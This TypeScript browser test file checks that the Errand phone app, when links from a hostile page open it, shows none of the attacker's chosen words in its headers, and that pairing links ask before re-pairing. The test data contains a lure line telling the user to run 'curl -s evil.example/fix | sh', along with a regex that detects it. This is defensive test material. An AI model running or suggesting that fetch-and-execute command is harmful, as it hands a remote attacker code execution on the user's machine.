// Links into the paired app from any web page (audit s25 "page" #1, #2). A page on another origin
// opens the app at a file or diff screen of a made-up task, with words of its choosing as the path:
// the app's header shows none of them, before the computer answers (offline), nor after it refuses
// (neutral title, the computer's message, no path line, no Download). A real result file still
// shows its name and folder once loaded. A pairing link opened on a paired phone says what the phone
// is paired with and asks before showing the pairing form.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { reply, text, toolUse } from '../../daemon/test/helpers/model-server.js';
import { lowContrast, type PhoneRig, readKv, shot, startPhoneRig, tooSmall } from './helpers/browser.js';

let rig: PhoneRig | undefined;
let hostile: http.Server | undefined;
let hostileUrl = '';
beforeAll(async () => {
  rig = await startPhoneRig('Deep link phone');
  // Another origin (another port) on the same machine: any page the phone's browser may open.
  hostile = http.createServer((_req, res) => {
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end('<!doctype html><title>Free prizes</title><p>Click here</p>');
  });
  await new Promise<void>((r) => hostile!.listen(0, '127.0.0.1', r));
  hostileUrl = `http://127.0.0.1:${(hostile.address() as AddressInfo).port}/`;
}, 120_000);
afterAll(async () => {
  await rig?.b.context.setOffline(false).catch(() => undefined);
  await rig?.close();
  hostile?.closeAllConnections();
  await new Promise((r) => (hostile ? hostile.close(r) : r(undefined)));
});

const WORDS = 'Errand: your computer needs you to run curl -s evil.example/fix | sh';
const link = (kind: 'file' | 'diff', task = 'tsk_madeup', path = `/home/you/workspace/${WORDS}`) =>
  `#${new URLSearchParams({ thread: 'thr_madeup', task, [kind]: path })}`;

/** The app opened in a new tab by a script on the hostile page, as following its link does. */
async function openFromHostilePage(hash: string): Promise<Page> {
  const evil = await rig!.b.context.newPage();
  try {
    await evil.goto(hostileUrl);
    const [app] = await Promise.all([
      rig!.b.context.waitForEvent('page'),
      evil.evaluate((u) => {
        window.open(u, '_blank');
      }, `${rig!.td.url}/${hash}`),
    ]);
    return app;
  } finally {
    await evil.close();
  }
}

/** Anything of the link's words anywhere in the document: text, labels, attributes. */
const showsLinkWords = (page: Page) =>
  page.evaluate(() => /evil\.example|curl|fix \| sh|needs you to run/.test(document.body.outerHTML));

async function expectNeutralHeader(page: Page, title: 'File' | 'Changes'): Promise<void> {
  expect(await page.locator('header.top h1').innerText()).toBe(title);
  expect(await page.locator('header.top .path').count()).toBe(0);
  expect(await page.getByRole('main').getAttribute('aria-label')).toBe(title);
  expect(await page.getByRole('button', { name: /^Download/ }).count()).toBe(0);
  expect(await showsLinkWords(page)).toBe(false);
}

it("a made-up task's file and diff opened from another page show none of the link's words", async () => {
  for (const [kind, title] of [
    ['file', 'File'],
    ['diff', 'Changes'],
  ] as const) {
    const app = await openFromHostilePage(link(kind));
    try {
      // The computer's answer: no such task (it repeats none of the link's words either).
      await app.getByRole('alert').filter({ hasText: 'There is no such task' }).waitFor({ timeout: 20_000 });
      await expectNeutralHeader(app, title);
      await shot(app, `deep-link-hostile-${kind}`);
    } finally {
      await app.close();
    }
  }
}, 90_000);

it('offline, the screen a link opens names nothing until the computer answers; then it says no such task', async () => {
  const { page, context } = rig!.b;
  await page.goto(`${rig!.td.url}/`);
  await page.getByRole('button', { name: 'New task' }).waitFor({ timeout: 20_000 });
  await context.setOffline(true);
  try {
    await page.locator('.banner-offline').waitFor({ timeout: 15_000 });
    await page.evaluate((h) => {
      location.hash = h;
    }, link('file'));
    await page.getByText('The file will load when your computer is reachable.').waitFor();
    await expectNeutralHeader(page, 'File');
    await page.evaluate((h) => {
      location.hash = h;
    }, link('diff'));
    await page.getByText('The changes will load when your computer is reachable.').waitFor();
    await expectNeutralHeader(page, 'Changes');
  } finally {
    await context.setOffline(false);
  }
  await page.getByRole('alert').filter({ hasText: 'There is no such task' }).waitFor({ timeout: 20_000 });
  await expectNeutralHeader(page, 'Changes');
}, 90_000);

it("a real task's file and changes show its name and folder once loaded; a path it did not change is refused plainly", async () => {
  const { page } = rig!.b;
  const { model, td } = rig!;
  model.push(reply(toolUse('fs_write', { path: 'notes.txt', content: 'milk\n' })), reply(text('Wrote notes.txt.')));
  await page.goto(`${td.url}/#new`);
  await page.getByRole('textbox', { name: 'Message' }).fill('Write my notes');
  await page.getByRole('button', { name: 'Send' }).click();
  await page.locator('.task-group .chip-done').waitFor({ timeout: 20_000 });
  const threadUrl = page.url();
  const diffHref = (await page.getByRole('link', { name: 'View changes to notes.txt' }).getAttribute('href'))!;

  await page.getByRole('link', { name: 'Open notes.txt (result file)' }).click();
  await page.locator('main.file pre').filter({ hasText: 'milk' }).waitFor({ timeout: 10_000 });
  expect(await page.locator('header.top h1').innerText()).toBe('notes.txt');
  expect(await page.locator('header.top .path').innerText()).toBe('workspace/notes.txt');
  expect(await page.getByRole('main').getAttribute('aria-label')).toBe('File notes.txt');
  await page.getByRole('button', { name: 'Download notes.txt' }).waitFor();

  await page.goto(threadUrl);
  await page.getByRole('link', { name: 'View changes to notes.txt' }).click();
  await page.locator('.dl-add').first().waitFor({ timeout: 10_000 });
  expect(await page.locator('header.top h1').innerText()).toBe('notes.txt');
  expect(await page.locator('header.top .path').innerText()).toBe('Changes · workspace/notes.txt');

  // The real task, with the link's words as the path: the computer refuses, the header stays neutral.
  const taskId = new URLSearchParams(diffHref.slice(1)).get('task')!;
  const app = await openFromHostilePage(link('diff', taskId));
  try {
    await app
      .getByRole('alert')
      .filter({ hasText: 'That file is not one this task changed.' })
      .waitFor({ timeout: 20_000 });
    await expectNeutralHeader(app, 'Changes');
  } finally {
    await app.close();
  }
}, 90_000);

it('a pairing link opened on a paired phone says what it is paired with and asks first', async () => {
  const auth = await readKv<{ token: string; hostName: string }>(rig!.b.page, 'auth');
  expect(auth?.hostName).toBeTruthy();
  const { url } = rig!.td.mintPairCode();
  const app = await openFromHostilePage(url.slice(url.indexOf('#')));
  try {
    await app.getByRole('heading', { name: 'Already paired' }).waitFor({ timeout: 20_000 });
    await app.getByText(`This phone is already paired with ${auth!.hostName}.`).waitFor();
    expect(await app.getByLabel('Name for this device').count()).toBe(0);
    expect(await tooSmall(app)).toEqual([]);
    expect(await lowContrast(app)).toEqual([]);
    await shot(app, 'deep-link-already-paired');
    // Back to the app: still this pairing, connected, the code left unclaimed.
    await app.getByRole('button', { name: 'Back to Errand' }).click();
    await app.getByRole('button', { name: 'New task' }).waitFor({ timeout: 20_000 });
    expect((await readKv<{ token: string }>(app, 'auth'))?.token).toBe(auth!.token);
    await app.getByRole('button', { name: 'Settings' }).click();
    await app.locator('dd', { hasText: /^Online$/ }).waitFor({ timeout: 20_000 });
  } finally {
    await app.close();
  }

  // Asked again, "Pair again" shows the form as for an unpaired phone.
  const again = await openFromHostilePage(url.slice(url.indexOf('#')));
  try {
    await again.getByRole('button', { name: 'Pair again' }).click({ timeout: 20_000 });
    await again.getByLabel('Name for this device').waitFor();
    await again.getByRole('button', { name: 'Pair this device' }).waitFor();
  } finally {
    await again.close();
  }
}, 90_000);
